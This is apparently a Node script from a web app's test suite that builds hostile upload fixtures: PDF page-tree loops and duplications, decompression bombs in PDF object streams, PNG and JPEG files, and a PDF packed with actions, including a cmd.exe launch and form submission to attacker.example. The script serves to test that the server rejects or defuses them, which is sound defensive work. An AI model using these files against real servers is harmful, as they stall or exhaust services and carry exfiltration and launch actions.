// The hostile-inputs corpus (issue #29): files made to stall or exhaust a server that reads them
// naively. `hostileFiles()` makes every one of them in memory (the test and the bench call it);
// run as a script, it writes the small ones (`committed: true`, a few KB each) to
// apps/api/test/fixtures/hostile/, where they are kept for anyone to try by hand. The large ones
// (the 440,000-object PDF, the decompression bombs) are made at test time and never committed.
//
//   node apps/api/scripts/make-hostile-fixtures.mjs
import { mkdirSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { constants, crc32, createDeflate, deflateSync } from 'node:zlib'

export const FIXTURES_DIRECTORY = join(dirname(fileURLToPath(import.meta.url)), '../test/fixtures/hostile')

// ---------------------------------------------------------------------------------------------
// PDFs

/** A PDF of the given objects (object n is objects[n - 1], a string of its body), with a correct cross-reference table. */
export function pdfOf(objects, { root = 1 } = {}) {
  const parts = ['%PDF-1.7\n%\xe2\xe3\xcf\xd3\n']
  let length = Buffer.byteLength(parts[0], 'latin1')
  const offsets = []
  objects.forEach((body, index) => {
    offsets.push(length)
    const text = `${index + 1} 0 obj\n${body}\nendobj\n`
    parts.push(text)
    length += Buffer.byteLength(text, 'latin1')
  })
  const xref = [`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`, ...offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`)].join('')
  parts.push(xref, `trailer\n<< /Size ${objects.length + 1} /Root ${root} 0 R >>\nstartxref\n${length}\n%%EOF\n`)
  return Buffer.from(parts.join(''), 'latin1')
}

const PAGE = (parent) => `<< /Type /Page /Parent ${parent} 0 R /MediaBox [0 0 612 792] /Contents 3 0 R /Resources << /Font << /F1 4 0 R >> >> >>`
const CONTENT = (text) => {
  const stream = `BT /F1 18 Tf 72 700 Td (${text}) Tj ET`
  return `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`
}
const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'

/**
 * The page tree of the first HIGH finding: three levels of /Pages, each listing the next level's one
 * node 600 times, so a reader that lists pages finds 600³ = 2.16 × 10⁸ of them in 11 KB.
 */
function pageTreeDag() {
  // 1 catalog, 2 level 1, 3 content, 4 font, 5 level 2, 6 level 3, 7 the page.
  const kids = (ref) => Array.from({ length: 600 }, () => `${ref} 0 R`).join(' ')
  return pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${kids(5)}] /Count 216000000 >>`,
    CONTENT('The same page, listed 216 million times'),
    FONT,
    `<< /Type /Pages /Parent 2 0 R /Kids [${kids(6)}] /Count 360000 >>`,
    `<< /Type /Pages /Parent 5 0 R /Kids [${kids(7)}] /Count 600 >>`,
    PAGE(6),
  ])
}

/** A page tree whose second level lists the first again: a walker without a visited set never ends. */
function pageTreeCycle() {
  return pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [5 0 R] /Count 2 >>',
    CONTENT('A page below a loop'),
    FONT,
    '<< /Type /Pages /Parent 2 0 R /Kids [6 0 R 2 0 R] /Count 2 >>',
    PAGE(5),
  ])
}

/** A page tree nested `levels` deep, one /Pages inside the next, with the one page at the bottom: a recursive walker overflows its stack. */
function pageTreeDeep(levels) {
  // 1 catalog, 2 the first level, 3 content, 4 font, then levels 2..n, then the page.
  const objects = ['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [5 0 R] /Count 1 >>', CONTENT('A page far down'), FONT]
  for (let level = 2; level <= levels; level++) {
    const self = objects.length + 1
    const parent = level === 2 ? 2 : self - 1
    objects.push(`<< /Type /Pages /Parent ${parent} 0 R /Kids [${self + 1} 0 R] /Count 1 >>`)
  }
  objects.push(PAGE(objects.length))
  return pdfOf(objects)
}

/** A one-page PDF followed by `count` small objects nothing refers to: the parse alone is the cost. */
export function manyObjects(count) {
  const objects = ['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [5 0 R] /Count 1 >>', CONTENT('One page among many objects'), FONT, PAGE(2)]
  for (let index = objects.length; index < count; index++) objects.push("null")
  return pdfOf(objects)
}

/** A one-page PDF with an object stream that inflates to `megabytes` MB of spaces: a decompression bomb inside the PDF's own structure. */
async function objectStreamBomb(megabytes) {
  const data = await deflateRepeated(Buffer.alloc(1024 * 1024, 0x20), megabytes)
  const head = Buffer.from(pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [5 0 R] /Count 1 >>', CONTENT('One page and an object stream bomb'), FONT, PAGE(2), 'BOMB']).toString('latin1').split('BOMB')[0], 'latin1')
  // pdfOf's cross-reference would point at the placeholder; a reader rebuilds it from the objects.
  const stream = Buffer.concat([Buffer.from(`<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${data.length} >>\nstream\n`, 'latin1'), data, Buffer.from('\nendstream\nendobj\ntrailer\n<< /Size 7 /Root 1 0 R >>\n%%EOF\n', 'latin1')])
  return Buffer.concat([head, stream])
}

/**
 * A one-page PDF whose object stream holds one array of `count` numbers: a few KB on disk, inflating
 * to two bytes a number, which a reader that counts only the file's own bytes would parse whole.
 */
function numbersInObjectStream(count) {
  const body = Buffer.from(`6 0 [${'0 '.repeat(count)}]`, 'latin1')
  const data = deflateSync(body, { level: 9 })
  const head = Buffer.from(pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [5 0 R] /Count 1 >>', CONTENT('One page and an object stream of numbers'), FONT, PAGE(2), 'NUMBERS']).toString('latin1').split('NUMBERS')[0], 'latin1')
  // As the bomb above: the cross-reference points at the placeholder, and a reader rebuilds it.
  const stream = Buffer.concat([Buffer.from(`<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${data.length} >>\nstream\n`, 'latin1'), data, Buffer.from('\nendstream\nendobj\ntrailer\n<< /Size 7 /Root 1 0 R >>\n%%EOF\n', 'latin1')])
  return Buffer.concat([head, stream])
}

/** A one-page PDF with one array of `count` numbers: small on disk, some 40 bytes of heap per number once parsed. */
export function hugeArray(count) {
  return pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [5 0 R] /Count 1 >>', CONTENT('One page and a huge array'), FONT, PAGE(2), `[${'0 '.repeat(count)}]`])
}

/**
 * One page carrying every kind of PDF action and script: the document's open action and named
 * scripts, the page's own actions, links that launch, submit, import, go elsewhere and run
 * JavaScript, a form field with keystroke/format/validate/calculate scripts, a file attachment and
 * a media annotation. A packet made from it must carry none of them.
 */
function everyAction() {
  const js = (code) => `<< /S /JavaScript /JS (${code}) >>`
  const link = (rect, action) => `<< /Type /Annot /Subtype /Link /Rect [${rect}] /Border [0 0 0] /A ${action} >>`
  const objects = [
    // 1 catalog: open action, named scripts, the form, additional actions of the document.
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${js("app.alert('open')")} /Names << /JavaScript << /Names [(boot) ${js("app.alert('named')")}] >> /EmbeddedFiles << /Names [(payload.exe) 12 0 R] >> >> /AcroForm << /Fields [10 0 R] /NeedAppearances true >> /AA << /WC ${js("app.alert('close')")} /WS ${js("app.alert('save')")} /DP ${js("app.alert('print')")} >> >>`,
    '<< /Type /Pages /Kids [5 0 R] /Count 1 >>',
    CONTENT('A page with every kind of action'),
    FONT,
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 3 0 R /Resources << /Font << /F1 4 0 R >> >> /Annots [6 0 R 7 0 R 8 0 R 9 0 R 11 0 R 13 0 R 14 0 R] /AA << /O ${js("app.alert('page open')")} /C ${js("app.alert('page close')")} >> >>`,
    link('72 600 200 620', "<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"),
    link('72 570 200 590', "<< /S /URI /URI (https://attacker.example/collect) /Next << /S /SubmitForm /F << /FS /URL /F (https://attacker.example/submit) >> /Flags 4 >> >>"),
    link('72 540 200 560', `<< /S /GoToR /F (other.pdf) /D [0 /Fit] /Next [${js("this.exportDataObject({cName: 'payload.exe', nLaunch: 2})")} << /S /ImportData /F (data.fdf) >>] >>`),
    link('72 510 200 530', "<< /S /Named /N /Print /Next << /S /ResetForm >> >>"),
    // 10 a text field with every field script; 11 its widget, with the widget's own actions.
    `<< /FT /Tx /T (amount) /Kids [11 0 R] /AA << /K ${js('event.rc = true')} /F ${js("event.value = 'x'")} /V ${js('event.rc = true')} /C ${js("this.getField('amount').value = 1")} >> >>`,
    `<< /Type /Annot /Subtype /Widget /Parent 10 0 R /Rect [300 600 500 620] /A ${js("app.alert('widget')")} /AA << /E ${js("app.alert('enter')")} /X ${js("app.alert('exit')")} /D ${js("app.alert('down')")} /U ${js("app.alert('up')")} /Fo ${js("app.alert('focus')")} /Bl ${js("app.alert('blur')")} >> >>`,
    // 12 an embedded file; 13 its attachment annotation; 14 a screen annotation with a rendition action.
    '<< /Type /Filespec /F (payload.exe) /EF << /F 15 0 R >> >>',
    '<< /Type /Annot /Subtype /FileAttachment /Rect [300 500 320 520] /FS 12 0 R /Name /PushPin >>',
    `<< /Type /Annot /Subtype /Screen /Rect [300 400 400 450] /A << /S /Rendition /OP 0 /JS (app.alert('rendition')) >> >>`,
    '<< /Type /EmbeddedFile /Length 14 >>\nstream\nMZ not a program\nendstream',
  ]
  return pdfOf(objects)
}

// ---------------------------------------------------------------------------------------------
// Images

function pngChunk(type, data) {
  const length = Buffer.alloc(4)
  length.writeUInt32BE(data.length)
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const crc = Buffer.alloc(4)
  crc.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, crc])
}

function pngHeader(width, height, colourType) {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header[8] = 8
  header[9] = colourType
  return header
}

const CHANNELS = { 0: 1, 2: 3, 4: 2, 6: 4 }

/** `row` repeated `count` times, deflated piece by piece without ever holding the whole. */
async function deflateRepeated(row, count) {
  const deflate = createDeflate({ level: constants.Z_BEST_COMPRESSION, memLevel: 9 })
  const out = []
  deflate.on('data', (chunk) => out.push(chunk))
  const done = new Promise((resolve, reject) => {
    deflate.on('end', resolve)
    deflate.on('error', reject)
  })
  for (let index = 0; index < count; index++) {
    if (!deflate.write(row)) await new Promise((resolve) => deflate.once('drain', resolve))
  }
  deflate.end()
  await done
  return Buffer.concat(out)
}

/** A PNG of width × height pixels, all zero: a decompression bomb whose header says how large it is. */
async function zeroPng(width, height, colourType = 0) {
  const data = await deflateRepeated(Buffer.alloc(1 + width * CHANNELS[colourType]), height)
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), pngChunk('IHDR', pngHeader(width, height, colourType)), pngChunk('IDAT', data), pngChunk('IEND', Buffer.alloc(0))])
}

/** A PNG whose header says 40 × 12 (a signature's size) but whose image data inflates to `inflated` bytes: the header lies. */
function lyingPng(inflated) {
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', pngHeader(40, 12, 6)),
    pngChunk('IDAT', deflateSync(Buffer.alloc(inflated), { level: 9 })),
    pngChunk('IEND', Buffer.alloc(0)),
  ])
}

/**
 * A baseline JPEG whose frame header says 65,500 × 65,500 pixels (4.3 gigapixels) over a few bytes of
 * data: a decoder that trusts the header allocates for all of them.
 */
function jpegBomb() {
  const marker = (code, body) => {
    const length = Buffer.alloc(2)
    length.writeUInt16BE(body.length + 2)
    return Buffer.concat([Buffer.from([0xff, code]), length, body])
  }
  const quantisation = Buffer.concat([Buffer.from([0x00]), Buffer.alloc(64, 1)])
  const frame = Buffer.from([8, 0xff, 0xdc, 0xff, 0xdc, 1, 1, 0x11, 0])
  // A DC table with one code (length 1) for category 0, and an AC table with one code for end-of-block.
  const dcTable = Buffer.concat([Buffer.from([0x00, 1]), Buffer.alloc(15), Buffer.from([0])])
  const acTable = Buffer.concat([Buffer.from([0x10, 1]), Buffer.alloc(15), Buffer.from([0])])
  const scan = Buffer.from([1, 1, 0x00, 0, 63, 0])
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    marker(0xe0, Buffer.from('JFIF\0\x01\x01\0\0\x01\0\x01\0\0', 'latin1')),
    marker(0xdb, quantisation),
    marker(0xc0, frame),
    marker(0xc4, dcTable),
    marker(0xc4, acTable),
    marker(0xda, scan),
    Buffer.alloc(64, 0),
    Buffer.from([0xff, 0xd9]),
  ])
}

// ---------------------------------------------------------------------------------------------
// The corpus

/**
 * Every hostile file with where it goes and what the server answers. `target`: 'form' (a signing
 * document upload), 'signature' (a signer's finish with it as the signature), 'listing-photo',
 * 'profile-photo' or 'verify'. `expect`: the status and catalogue key (or the status alone for a
 * file that is accepted, made harmless).
 */
export async function hostileFiles() {
  const dag = pageTreeDag()
  const cycle = pageTreeCycle()
  const deep = pageTreeDeep(10_000)
  const objects = manyObjects(440_000)
  const actions = everyAction()
  const signatureBomb = await zeroPng(16_000, 16_000)
  const photoBomb = await zeroPng(65_535, 4_000)
  const profileBomb = await zeroPng(16_000, 16_000)
  const streamBomb = await objectStreamBomb(256)
  return [
    { name: 'pdf-page-tree-dag.pdf', committed: true, bytes: dag, target: 'form', expect: { status: 400, key: 'signing.pdfPageTreeRepeated' } },
    { name: 'pdf-page-tree-cycle.pdf', committed: true, bytes: cycle, target: 'form', expect: { status: 400, key: 'signing.pdfPageTreeCycle' } },
    { name: 'pdf-deep-nesting.pdf', committed: false, bytes: deep, target: 'form', expect: { status: 400, key: 'signing.pdfPageTreeTooDeep' } },
    { name: 'pdf-440000-objects.pdf', committed: false, bytes: objects, target: 'form', expect: { status: 400, key: 'signing.pdfTooManyObjects' } },
    { name: 'pdf-object-stream-256mb.pdf', committed: false, bytes: streamBomb, target: 'form', expect: { status: 400, key: 'signing.fileTooComplex' } },
    { name: 'pdf-10-million-numbers.pdf', committed: false, bytes: hugeArray(10_000_000), target: 'form', expect: { status: 400, key: 'signing.fileTooComplex' } },
    { name: 'pdf-numbers-in-object-stream.pdf', committed: true, bytes: numbersInObjectStream(5_000_000), target: 'form', expect: { status: 400, key: 'signing.fileTooComplex' } },
    { name: 'pdf-every-action.pdf', committed: true, bytes: actions, target: 'form', expect: { status: 201 } },
    { name: 'pdf-page-tree-dag.pdf (verify)', committed: false, bytes: dag, target: 'verify', expect: { status: 200 } },
    { name: 'pdf-440000-objects.pdf (verify)', committed: false, bytes: objects, target: 'verify', expect: { status: 200 } },
    { name: 'signature-16000x16000.png', committed: false, bytes: signatureBomb, target: 'signature', expect: { status: 400, key: 'signing.signatureDimensions' } },
    { name: 'signature-inflates-to-64mb.png', committed: true, bytes: lyingPng(64 * 1024 * 1024), target: 'signature', expect: { status: 400, key: 'signing.signatureDamaged' } },
    { name: 'signature-100000x1.png', committed: true, bytes: await zeroPng(100_000, 1, 6), target: 'signature', expect: { status: 400, key: 'signing.signatureDimensions' } },
    { name: 'photo-65535x4000.png', committed: false, bytes: photoBomb, target: 'listing-photo', expect: { status: 400, key: 'listing.photoPixels' } },
    { name: 'photo-65500x65500.jpg', committed: true, bytes: jpegBomb(), target: 'listing-photo', expect: { status: 400, key: 'listing.photoPixels' } },
    { name: 'photo-16000x2.png', committed: true, bytes: await zeroPng(16_000, 2, 2), target: 'listing-photo', expect: { status: 201 } },
    { name: 'profile-16000x16000.png', committed: false, bytes: profileBomb, target: 'profile-photo', expect: { status: 400, key: 'profile.photoPixels' } },
    { name: 'photo-65500x65500.jpg (profile)', committed: false, bytes: jpegBomb(), target: 'profile-photo', expect: { status: 400, key: 'profile.photoPixels' } },
    { name: 'photo-16000x2.png (profile)', committed: false, bytes: await zeroPng(16_000, 2, 2), target: 'profile-photo', expect: { status: 200 } },
  ]
}

if (process.argv[1] && fileURLToPath(import.meta.url) === process.argv[1]) {
  mkdirSync(FIXTURES_DIRECTORY, { recursive: true })
  for (const file of await hostileFiles()) {
    if (!file.committed) continue
    writeFileSync(join(FIXTURES_DIRECTORY, file.name), file.bytes)
    console.log(`${file.name}: ${file.bytes.length} bytes`)
  }
}
